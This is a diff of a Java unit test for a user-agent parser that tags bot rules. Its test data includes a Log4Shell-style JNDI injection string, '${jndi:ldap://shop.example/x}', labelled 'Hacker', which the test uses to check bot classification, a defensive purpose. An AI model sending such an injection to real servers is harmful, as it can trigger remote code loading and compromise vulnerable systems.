@@ -3,6 +3,7 @@ package io.millrace.streams.enrich;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatCode;
 
+import io.millrace.streams.judge.BotRule;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.constraints.NotBlank;
@@ -50,7 +51,7 @@ class YauaaAgentParserTest {
         "${jndi:ldap://shop.example/x} | Hacker",
       })
   void programsAreBots(String userAgent, String name) {
-    assertThat(PARSER.parse(userAgent)).isEqualTo(Agent.bot(name));
+    assertThat(PARSER.parse(userAgent)).isEqualTo(Agent.bot(BotRule.AGENT_ANALYSIS, name));
   }
 
   @Property(tries = 200)
